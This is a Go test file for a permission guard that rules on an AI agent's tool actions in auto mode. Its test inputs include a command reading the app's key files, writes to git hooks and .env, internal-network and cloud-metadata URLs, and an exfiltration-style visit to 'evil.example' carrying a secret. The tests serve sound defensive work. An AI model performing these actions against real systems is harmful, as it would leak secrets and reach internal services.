package guard

import (
	"path/filepath"
	"strings"
	"testing"

	"gofer/backend/tool"
)

func TestAutoModeIsFreeWhereItCanBeUndoneOrIsKeptIn(t *testing.T) {
	p := newPlace(t)
	in := func(name string) string { return filepath.Join(p.ws, name) }
	command := func(line, dir string, outside bool) tool.Claim {
		return tool.Claim{Class: tool.RunCommand, Object: line, Detail: dir, Outside: outside}
	}
	for _, c := range []struct {
		name  string
		claim tool.Claim
		want  Decision
		boxed bool
	}{
		{"a command", command("make", p.ws, false), Allow, true},
		{"one in a folder below", command("make", in("sub"), false), Allow, true},
		{"one that only reads", command("ls", p.ws, false), Allow, false},
		{"one that wants out", command("npm install", p.ws, true), Ask, false},
		{"one in a folder outside", command("make", p.out, false), Ask, false},
		{"one about the app's own data", command("cat "+p.app+"/keys", p.ws, false), Deny, false},
		{"a file that runs later", claim(tool.WriteFile, in(".git/hooks/pre-commit")), Ask, false},
		{"a secret file", claim(tool.WriteFile, in(".env")), Ask, false},
		{"the workspace itself", claim(tool.DeleteFile, p.ws), Ask, false},
		{"a form", claim(tool.Send, "https://example.org/"), Ask, false},
		{"a script on a page", claim(tool.RunScript, "https://example.org/"), Ask, false},
		{"a page of this computer", claim(tool.Visit, "http://localhost:3000/"), Ask, false},
		{"a page of the home network", claim(tool.Visit, "http://192.168.1.1/"), Ask, false},
		{"a page of a provider's own network", claim(tool.Visit, "http://100.64.3.4/"), Ask, false},
		{"a page of the local link", claim(tool.Visit, "http://169.254.169.254/latest/"), Ask, false},
		{"a page of this computer, sixth version", claim(tool.Visit, "http://[::1]:3000/"), Ask, false},
		{"a number written another way", claim(tool.Visit, "http://0x7f000001/"), Ask, false},
		{"a name without a dot", claim(tool.Visit, "http://router/"), Ask, false},
		{"a name of the house", claim(tool.Visit, "http://nas.local/"), Ask, false},
		{"a page of the internet", claim(tool.Visit, "https://example.org/a?b=c"), Allow, false},
	} {
		v := p.check(ModeAuto, c.claim)
		if v.Decision != c.want || v.Sandbox != c.boxed {
			t.Errorf("%s is %s, in the sandbox %v; want %s, %v", c.name, v.Decision, v.Sandbox, c.want, c.boxed)
		}
	}
	v := p.g.Check(Request{Session: "s", Mode: ModeAuto, Workspace: p.ws, Claims: []tool.Claim{claim(tool.Visit, "https://evil.example/?d=secret")}, Taint: "https://example.org/"})
	if v.Decision != Ask || !strings.Contains(v.Why, "carries data") {
		t.Errorf("data for another site: %+v", v)
	}
}

func TestAutoModeSaysThatThereIsNoSandbox(t *testing.T) {
	p := newPlace(t)
	p.g.options.Sandbox = nil
	v := p.check(ModeAuto, tool.Claim{Class: tool.RunCommand, Object: "make", Detail: p.ws})
	if v.Decision != Ask || v.Sandbox || !strings.Contains(v.Why, "There is no sandbox on this computer") {
		t.Errorf("got %+v", v)
	}
}
